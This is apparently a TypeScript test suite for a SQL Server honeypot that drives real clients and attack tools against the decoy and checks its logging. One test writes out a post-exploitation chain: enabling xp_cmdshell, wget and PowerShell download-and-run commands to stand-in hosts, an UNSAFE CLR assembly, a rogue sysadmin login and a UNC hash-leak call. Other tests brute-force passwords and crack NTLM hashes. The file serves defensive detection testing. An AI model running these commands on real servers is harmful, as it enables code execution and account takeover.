import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import dgram from 'node:dgram'
import { once } from 'node:events'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import tls from 'node:tls'
import type { Event } from '#events/event.ts'
import { batch, login7, prelogin } from '#services/mssql/testing.ts'
import { driver, installDrivers } from '../drivers.ts'
import { crack } from '../hashcat.ts'
import { tokensOf } from '../oracle/mssql/tokens.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { method: string; password?: string; hash?: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'mssql' && event.event.action === action
const speaksOf = (action: string, words: string) => (event: Event) =>
  ofAction(action)(event) && JSON.stringify(event).includes(words)
const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-c', 'import impacket']).status === 0,
)
const noDrivers = installDrivers()
const access = 'access: { rules: ["sa:s3cret-word"], otherwise: refuse }'

describe('SQL Server, with real clients', () => {
  let skep: Skep
  let port: string
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'mssql-words-'))
  before(async () => {
    skep = await startSkep({ config: `persona: { os: debian-12 }\nservices: { mssql: { ${access} } }\n` })
    port = String(skep.offset + 1433)
    fs.writeFileSync(path.join(home, 'words'), 'alpha\ns3cret-word\n')
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const tsql = async (sql: string, { password = 's3cret-word', tds = '7.4' } = {}) =>
    runClient('env', [`TDSVER=${tds}`, 'tsql', '-H', '127.0.0.1', '-p', port, '-U', 'sa', '-P', password], {
      input: `${sql}\ngo\nexit\n`,
    })
  const tried = async (password: string, count: number) =>
    skep.eventually(event => ofAction('login')(event) && (event as Login).skep.login.password === password, count, 20)

  describe('FreeTDS', { skip: missing('tsql') }, () => {
    for (const tds of ['7.1', '7.2', '7.3', '7.4'])
      test(`TDS ${tds}: what there is`, async () => {
        const { out, err } = await tsql(
          'select @@version v, name, create_date from sys.databases where database_id < 3',
          { tds },
        )
        assert.match(
          out,
          /Microsoft SQL Server 2022 \(RTM[\s\S]*on Linux \(Debian GNU\/Linux 12 \(bookworm\)\) <X64>\s+master/,
          err,
        )
        assert.match(out, /tempdb/)
      })
    test('bsqldb', async () => {
      fs.writeFileSync(
        path.join(home, 'freetds.conf'),
        `[decoy]\nhost = 127.0.0.1\nport = ${port}\ntds version = 7.3\n`,
      )
      const query = path.join(home, 'query.sql')
      fs.writeFileSync(query, 'select 41 + 1 as answer\ngo\n')
      const { out, err } = await runClient('env', [
        `FREETDSCONF=${path.join(home, 'freetds.conf')}`,
        ...['bsqldb', '-S', 'decoy', '-U', 'sa', '-P', 's3cret-word', '-i', query],
      ])
      assert.match(out, /\b42\b/, err)
    })
    test('a wrong password is told of as the real one tells', async () => {
      const { out, err } = await tsql('select 1', { password: 'wrong' })
      assert.match(out + err, /Msg 18456 \(severity 14, state 1\) from \S+ Line 1:\s+"Login failed for user 'sa'\."/)
      await tried('wrong', 1)
    })
    test('tables are there at the next visit', async () => {
      await tsql(
        "create database depot\ngo\nuse depot\ngo\ncreate table t (id int identity primary key, w nvarchar(20)); insert t (w) values (N'hay'), (N'straw')",
      )
      const { out } = await tsql('select id, w from depot..T order by id desc')
      assert.match(out, /2\s+straw\s+1\s+hay/)
    })
    test('what is rolled back is as it was, savepoints and dropped tables too', async () => {
      const { out, err } = await tsql(
        `create database undo
go
use undo
create table T (w varchar(9))
insert T values ('kept')
begin tran
delete T
insert T values ('gone')
drop table T
rollback
begin tran
insert T values ('first')
save tran half
insert T values ('second')
rollback tran half
commit
select w from T
begin tran
rollback tran nowhere
rollback
drop database undo`,
      )
      assert.match(out, /kept\s+first/, err)
      assert.doesNotMatch(out, /gone|second/)
      assert.match(out + err, /Cannot roll back nowhere\. No transaction or savepoint of that name was found\./)
    })
    test('mistakes in the real words', async () => {
      const { out, err } = await tsql(
        "select * from nowhere\ngo\nselect 'x\ngo\nselect convert(int, 'abc')\ngo\nexec nothing_of_the_kind",
      )
      const all = out + err
      for (const words of [
        "Invalid object name 'nowhere'.",
        "Unclosed quotation mark after the character string 'x",
        "Conversion failed when converting the varchar value 'abc' to data type int.",
        "Could not find stored procedure 'nothing_of_the_kind'.",
      ])
        assert.ok(all.includes(words), `${words} not in ${all}`)
    })

    test('an attack of the field: a shell, an assembly, a job, a log-in', async () => {
      const off = await tsql("exec xp_cmdshell 'whoami'")
      assert.match(off.out + off.err, /Msg 15281/)
      const dll = `4d5a9000${'00'.repeat(56)}80000000${'00'.repeat(64)}`
      const { out, err } = await tsql(
        [
          "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;",
          "xp_cmdshell 'id; wget http://198.51.100.7/x.sh -O /tmp/x.sh'",
          "EXEC sp_configure 'Ole Automation Procedures',1;RECONFIGURE;",
          "DECLARE @s INT; EXEC sp_OACreate 'WScript.Shell', @s OUTPUT; EXEC sp_OAMethod @s, 'Run', NULL, 'powershell IEX(New-Object Net.WebClient).DownloadString(''http://198.51.100.9/a.ps1'')'",
          `CREATE ASSEMBLY Shell FROM 0x${dll} WITH PERMISSION_SET = UNSAFE`,
          'CREATE PROCEDURE ExecCommand @c NVARCHAR(MAX) AS EXTERNAL NAME Shell.StoredProcedures.ExecCommand',
          "exec ExecCommand 'uname -s'",
          "CREATE LOGIN evil WITH PASSWORD = 'P@ss'; EXEC sp_addsrvrolemember 'evil', 'sysadmin'; SELECT name, sysadmin FROM syslogins WHERE name = 'evil'",
          "EXEC master..xp_dirtree '\\\\203.0.113.5\\share'",
        ].join('\ngo\n'),
      )
      assert.match(out, /uid=\d+\(mssql\)/, err)
      assert.match(out, /Linux/)
      assert.match(out, /evil\s+1/)
      const [kept] = await skep.eventually(ofAction('file-upload'))
      assert.equal(
        (kept as { file?: { hash?: { sha256?: string } } }).file?.hash?.sha256,
        createHash('sha256').update(Buffer.from(dll, 'hex')).digest('hex'),
      )
      for (const url of ['http://198.51.100.7/x.sh', 'http://198.51.100.9/a.ps1'])
        await skep.eventually(speaksOf('file-download', url))
      for (const id of [
        'mssql-xp-cmdshell',
        'mssql-ole',
        'mssql-assembly',
        'mssql-clr-command',
        'mssql-configure',
        'mssql-unc',
      ])
        await skep.eventually(speaksOf('exploit', id))
      await skep.eventually(speaksOf('outbound-attempt', '203.0.113.5'))
      await skep.eventually(speaksOf('account-change', 'evil'))
    })
  })

  describe('impacket', { skip: python ? false : 'python3-impacket not installed' }, () => {
    test('by password, over TLS for the log-in alone', async () => {
      const program = `
from impacket import tds
m = tds.MSSQL('127.0.0.1', ${port}); m.connect()
assert m.login(None, 'sa', 's3cret-word')
m.batch("select 41 a, 'x' b, null c, getdate() d"); r = m.rows[0]; assert (r['a'], r['b'], r['c']) == (41, b'x', 'NULL') or (r['a'], r['b'], r['c']) == (41, 'x', 'NULL'), r
m.batch("select name from master..sysdatabases"); assert m.rows[0]['name'] == 'master', m.rows
m.disconnect(); print('fine')
`
      const { out, err } = await runClient(python!, ['-c', program])
      assert.match(out, /fine/, err)
    })
    test('by Windows’ log-in, whose proof is cracked', { skip: missing('hashcat'), timeout: 300_000 }, async () => {
      const program = `
from impacket import tds
m = tds.MSSQL('127.0.0.1', ${port}); m.connect()
print(m.login(None, 'backup', 'Winter2024!', 'CORP', None, True))
`
      const { out, err } = await runClient(python!, ['-c', program])
      assert.match(out, /False/, err)
      const [event] = await skep.eventually(
        one => ofAction('login')(one) && (one as Login).skep.login.method === 'ntlm',
      )
      const { hash } = (event as Login).skep.login
      assert.ok(hash)
      assert.match(await crack(5600, hash, ['Summer', 'Winter2024!']), /:Winter2024!/)
    })
  })

  for (const encrypt of [true, false])
    test(`tedious, with ${encrypt ? 'all' : 'the log-in alone'} in TLS`, { skip: noDrivers }, async () => {
      type Row = { value: unknown }[]
      type Request = { addParameter(name: string, type: unknown, value: unknown): void }
      type Tedious = {
        Connection: new (
          options: object,
        ) => {
          connect(done: (error?: Error) => void): void
          execSql(request: Request): void
          close(): void
          on(name: string, listener: () => void): void
        }
        Request: new (sql: string, done: (error: Error | undefined, count: number, rows: Row[]) => void) => Request
        TYPES: Record<string, unknown>
      }
      const { Connection, Request, TYPES } = driver<Tedious>('tedious')
      const options = {
        port: Number(port),
        serverName: 'decoy.example',
        encrypt,
        trustServerCertificate: true,
        rowCollectionOnRequestCompletion: true,
      }
      const authentication = { type: 'default', options: { userName: 'sa', password: 's3cret-word' } }
      const connection = new Connection({ server: '127.0.0.1', options, authentication })
      connection.on('errorMessage', () => {})
      await new Promise<void>((resolve, reject) => connection.connect(error => (error ? reject(error) : resolve())))
      const ask = (sql: string, parameters: [string, string, unknown][] = []) =>
        new Promise<unknown[][]>((resolve, reject) => {
          const request = new Request(sql, (error, _, rows) =>
            error ? reject(error) : resolve(rows.map(row => row.map(({ value }) => value))),
          )
          for (const [name, type, value] of parameters) request.addParameter(name, TYPES[type], value)
          connection.execSql(request)
        })
      const when = new Date('2024-05-06T07:08:09Z')
      assert.deepEqual(
        await ask('select @a + 1, @b, @c, @d, @e', [
          ['a', 'Int', 41],
          ['b', 'NVarChar', "x'é漢"],
          ['c', 'DateTime', when],
          ['d', 'VarBinary', Buffer.from('ab')],
          ['e', 'Bit', true],
        ]),
        [[42, "x'é漢", when, Buffer.from('ab'), true]],
      )
      await ask(
        "create table #t (id int identity primary key, w nvarchar(max), f float, n numeric(9,3), v varbinary(max)); insert #t values (N'hay', 1.5, 3.125, 0x0102), (null, null, null, null)",
      )
      assert.deepEqual(await ask('select * from #t order by id'), [
        [1, 'hay', 1.5, 3.125, Buffer.of(1, 2)],
        [2, null, null, null, null],
      ])
      await assert.rejects(ask('select 1/0'), /Divide by zero/)
      assert.deepEqual(
        await ask(
          "begin try raiserror('no %d', 16, 1, 7) end try begin catch select error_message(), error_number() end catch",
        ),
        [['no 7', 50_000]],
      )
      connection.close()
    })

  test('a strict client: TLS before the first word', async () => {
    const wire = tls.connect({
      host: '127.0.0.1',
      port: Number(port),
      rejectUnauthorized: false,
      ALPNProtocols: ['tds/8.0'],
    })
    const heard: Buffer[] = []
    wire.on('data', (chunk: Buffer) => heard.push(chunk))
    const bytes = async (least: number) => {
      for (let n = 0; Buffer.concat(heard).length < least && n < 100; n++)
        await new Promise(resolve => setTimeout(resolve, 50))
      return Buffer.concat(heard.splice(0))
    }
    await once(wire, 'secureConnect')
    assert.equal(wire.alpnProtocol, 'tds/8.0')
    wire.write(prelogin(1))
    await bytes(30)
    wire.write(login7('sa', 's3cret-word', { version: 0x08000000 }))
    assert.ok(tokensOf(await bytes(200)).includes('login 8000000'))
    wire.write(batch('SELECT 1'))
    assert.deepEqual(tokensOf(await bytes(20)), ['columns - int not null', 'rows 1', 'done 1'])
    wire.destroy()
  })

  test('hydra finds the password, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const { out } = await runClient('hydra', [
      '-l',
      'sa',
      '-P',
      path.join(home, 'words'),
      '-t',
      '1',
      '-I',
      '-s',
      port,
      '127.0.0.1',
      'mssql',
    ])
    assert.match(out, /\[mssql\] host: 127\.0\.0\.1 +login: sa +password: s3cret-word/, out)
    await tried('alpha', 1)
  })
  test('so does medusa', { skip: missing('medusa') }, async () => {
    const { out } = await runClient('medusa', [
      '-h',
      '127.0.0.1',
      '-n',
      port,
      '-u',
      'sa',
      '-P',
      path.join(home, 'words'),
      '-M',
      'mssql',
      '-t',
      '1',
    ])
    assert.match(out, /ACCOUNT FOUND: \[mssql\] Host: 127\.0\.0\.1 User: sa Password: s3cret-word/, out)
    await tried('alpha', 2)
  })
  test('and ncrack', { skip: missing('ncrack') }, async () => {
    const { out } = await runClient('ncrack', [
      '--user',
      'sa',
      '-P',
      path.join(home, 'words'),
      `mssql://127.0.0.1:${port}`,
    ])
    assert.match(out, /mssql: 'sa' 's3cret-word'/, out)
    await tried('alpha', 3)
  })

  test('nmap knows the product, and its library logs in and asks', {
    skip: missing('nmap'),
    timeout: 240_000,
  }, async () => {
    // The scripts of nmap 7.93 fail in their own library at any server that has the port (its list of instances is not one);
    // what they are made of is asked here as they ask.
    const script = path.join(home, 'ask.nse')
    fs.writeFileSync(
      script,
      `local mssql = require "mssql"
portrule = function(host, port) return true end
categories = {"safe"}
action = function(host, port)
  local instance = mssql.SqlServerInstanceInfo:new()
  instance.host, instance.port = host, port
  local helper = mssql.Helper:new()
  local status, result = helper:ConnectEx(instance)
  if not status then return "connect: " .. tostring(result) end
  status, result = helper:Login("sa", "s3cret-word", "master", host.ip)
  if not status then return "login: " .. tostring(result) end
  status, result = helper:Query("select name, database_id from sys.databases where database_id < 3 order by 2")
  helper:Disconnect()
  if not status then return "query: " .. tostring(result) end
  local ok, version = mssql.Helper.GetInstanceVersion(instance)
  return result.rows[2][1] .. " " .. (ok and version.productName .. " " .. version.versionNumber or tostring(version))
end
`,
    )
    const { out } = await runClient('nmap', ['-n', '-Pn', '-p', port, '--script', script, '127.0.0.1'], {
      seconds: 100,
    })
    assert.match(out, /tempdb Microsoft SQL Server 2022 16\.\d\d\.\d{4}/, out)
  })

  test('the browser is never larger than its question', async () => {
    const ask = (question: string, patience = 700) =>
      new Promise<Buffer | undefined>(resolve => {
        const socket = dgram.createSocket('udp4')
        const late = setTimeout(() => {
          socket.close()
          resolve(undefined)
        }, patience)
        socket.on('message', message => {
          clearTimeout(late)
          socket.close()
          resolve(message)
        })
        socket.send(Buffer.from(question, 'latin1'), skep.offset + 1434, '127.0.0.1')
      })
    assert.equal(await ask('\x03'), undefined)
    assert.equal(await ask('\x04MSSQLSERVER\0'), undefined)
    assert.deepEqual(await ask('\x0f\x01MSSQLSERVER\0', 10_000), Buffer.from([5, 6, 0, 1, 0x9a, 0x05]))
  })
})
